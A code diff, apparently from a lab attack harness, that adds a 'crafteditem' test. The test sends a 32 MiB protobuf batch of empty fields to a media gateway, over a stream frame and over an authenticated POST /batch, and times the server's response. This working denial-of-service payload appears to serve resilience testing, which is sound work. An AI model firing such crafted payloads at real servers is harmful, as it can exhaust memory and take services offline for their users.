@@ -561,6 +561,55 @@ const attacks: Record<string, Attack> = {
     console.log('server alive, stream batches', m.get('media_gateway_stream_batches_total'));
     s.destroy();
   },
+  /** one crafted item (32 MiB of empty data fields, 1a 00) in one batch: stream frame vs POST /batch */
+  async crafteditem(server, lab) {
+    const inner = Buffer.alloc(32 * 2 ** 20, Buffer.from([0x1a, 0x00]));
+    const len: number[] = [];
+    for (let v = inner.length; ; v = Math.floor(v / 128)) {
+      if (v < 128) {
+        len.push(v);
+        break;
+      }
+      len.push((v & 0x7f) | 0x80);
+    }
+    const body = Buffer.concat([Buffer.from([0x0a, ...len]), inner]);
+    {
+      const t0 = await baseline(server);
+      const s = await connect(server, lab, lab.attacker);
+      await upgrade(s);
+      let got = Buffer.alloc(0);
+      s.on('data', (c: Buffer) => (got = Buffer.concat([got, c])));
+      const t = Date.now();
+      s.write(Buffer.concat([frameHeader(FRAME.batch, 0, body.length), body]));
+      while (got.length < 11 && !s.destroyed && Date.now() - t < 30_000) await sleep(10);
+      console.log('stream crafted item ->', got.subarray(9).toString('latin1'), 'in', Date.now() - t, 'ms');
+      await report(server, 'stream crafted item', t0);
+      s.destroy();
+    }
+    {
+      const t0 = await baseline(server);
+      const s = await connect(server, lab, lab.attacker);
+      let got = '';
+      s.on('data', (c: Buffer) => (got += c.toString('latin1')));
+      const t = Date.now();
+      s.write(
+        `POST /batch HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/protobuf\r\n` +
+          `Authorization: ${basicHeader(ATTACKER_USER)}\r\nContent-Length: ${body.length}\r\n\r\n`,
+      );
+      s.write(body);
+      while (!got.includes('\r\n\r\n') && !s.destroyed && Date.now() - t < 30_000) await sleep(10);
+      await sleep(50);
+      console.log(
+        'POST crafted item ->',
+        JSON.stringify(got.split('\r\n')[0] + ' ' + got.slice(got.indexOf('\r\n\r\n') + 4)),
+        'in',
+        Date.now() - t,
+        'ms',
+      );
+      await report(server, 'POST crafted item', t0);
+      s.destroy();
+    }
+  },
 };
 
 const [name, nArg] = process.argv.slice(2);
